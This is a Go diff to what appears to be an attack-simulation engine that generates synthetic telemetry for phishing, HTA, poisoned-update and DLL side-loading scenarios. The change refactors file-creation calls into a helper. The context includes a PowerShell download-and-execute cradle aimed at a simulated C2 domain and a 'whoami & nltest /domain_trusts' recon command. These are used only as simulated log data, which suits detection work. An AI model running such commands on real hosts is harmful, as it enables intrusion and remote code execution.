@@ -217,7 +217,7 @@ func (a *Attempt) implant(h *world.Host, who *world.Account, via *Foothold, port
 		file, starter, library = world.Signed(folder+name, "Viewer Software Ltd"), world.Svchost, "viewcore.dll"
 	}
 	shell := h.Program(starter, starter.Path, who)
-	a.World.CreateFile(a.Now, a.Actor, shell, file.Path)
+	a.createFile(a.Now, shell, file.Path)
 	i := a.World.Plant(a.Now+2*time.Second, a.Actor, world.Start{Host: h, Account: who, Binary: file, CommandLine: `"` + file.Path + `"`, Integrity: integrity, Parent: shell})
 	a.World.LoadImage(a.Now+3*time.Second, a.Actor, i.Process, &world.Binary{Path: folder + library, OriginalName: "-", Company: "-", Product: "-", Description: "-", Version: "-"})
 	i.Files = []string{file.Path}
@@ -244,20 +244,20 @@ func phish(a *Attempt) Progress {
 	var launcher *world.Process
 	switch a.Tool {
 	case "macro":
-		w.CreateFile(a.Now, a.Actor, outlook, downloads+"Invoice_2026.docm")
+		a.createFile(a.Now, outlook, downloads+"Invoice_2026.docm")
 		word := w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Winword, CommandLine: office.CommandLine, Parent: outlook})
 		w.LoadImage(a.Now+6*time.Second, a.Actor, word, vbe)
 		launcher = word
 	case "lnk in zip":
-		w.CreateFile(a.Now, a.Actor, outlook, downloads+"Invoice_2026.zip")
+		a.createFile(a.Now, outlook, downloads+"Invoice_2026.zip")
 		explorer := h.Program(world.Explorer, `C:\Windows\Explorer.EXE`, victim)
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c start /b powershell`, Parent: explorer})
 	case "signed installer":
-		w.CreateFile(a.Now, a.Actor, outlook, downloads+"ViewerSetup.exe")
+		a.createFile(a.Now, outlook, downloads+"ViewerSetup.exe")
 		setup := world.Signed(downloads+"ViewerSetup.exe", "Viewer Software Ltd")
 		return a.phished(w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: setup}), victim)
 	default:
-		w.CreateFile(a.Now, a.Actor, outlook, `C:\Users\`+victim.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2LQ0\Invoice.hta`)
+		a.createFile(a.Now, outlook, `C:\Users\`+victim.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2LQ0\Invoice.hta`)
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
 	}
 	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.C2().Domain)
@@ -308,7 +308,7 @@ func lure(a *Attempt, mailed bool) Progress {
 	}
 	w.ProxyRequest(a.Now+time.Second, a.Actor, world.Request{From: world.At(h), To: c2, Port: 80, Method: "GET", Host: c2.Domain, URI: "http://" + c2.Domain + "/d/" + name, Agent: browserAgent, Status: "200", Sent: 900, Received: 900e3, User: victim.Name})
 	downloads := `C:\Users\` + victim.Name + `\Downloads\`
-	w.CreateFile(a.Now+2*time.Second, a.Actor, browser, downloads+name)
+	a.createFile(a.Now+2*time.Second, browser, downloads+name)
 	w.Log(a.Now+2*time.Second, a.Actor, browser, "Sysmon 15", "TargetFilename", downloads+name+":Zone.Identifier", "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=https://"+c2.Domain+"/d/"+name, "Hash", "-")
 	explorer := h.Program(world.Explorer, `C:\Windows\Explorer.EXE`, victim)
 	var p *world.Process
@@ -354,7 +354,7 @@ func poisonUpdate(a *Attempt) Progress {
 	a.Target = h
 	a.Hostile.MarkHost(h.Name)
 	p := w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /silent`, Integrity: "System"})
-	w.CreateFile(a.Now+2*time.Second, a.Actor, p, `C:\Program Files\Network Viewer\nv.core.dll`)
+	a.createFile(a.Now+2*time.Second, p, `C:\Program Files\Network Viewer\nv.core.dll`)
 	w.LoadImage(a.Now+3*time.Second, a.Actor, p, world.Signed(`C:\Program Files\Network Viewer\nv.core.dll`, "Network Viewer Ltd"))
 	if a.Tool == "noisy update" {
 		w.StartProcess(a.Now+9*time.Second, a.Actor, world.Start{Host: h, Binary: world.Cmd, CommandLine: `cmd.exe /c whoami & nltest /domain_trusts`, Parent: p, Integrity: "System"})
